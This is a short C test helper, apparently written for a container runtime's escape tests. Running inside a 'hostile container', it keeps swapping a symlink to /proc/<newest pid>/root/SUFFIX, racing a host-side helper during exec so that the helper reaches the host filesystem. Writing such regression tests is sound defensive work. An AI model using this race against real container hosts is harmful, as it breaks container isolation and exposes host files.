/* A hostile container's helper for tests/escapes.rs: keeps LINK pointing at
 * /proc/<newest pid>/root/SUFFIX, so that a host helper resolving LINK while a new
 * process (an exec) has not yet entered the container's mount namespace would reach
 * the host's filesystem. Runs until killed. Usage: flip LINK SUFFIX */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    char tmp[4096], target[4096];
    snprintf(tmp, sizeof tmp, "%s.new", argv[1]);
    int self = getpid();
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        int newest = 0;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid > newest && pid != self) newest = pid;
        }
        closedir(d);
        snprintf(target, sizeof target, "/proc/%d/root/%s", newest, argv[2]);
        unlink(tmp);
        if (symlink(target, tmp) == 0) rename(tmp, argv[1]);
    }
}
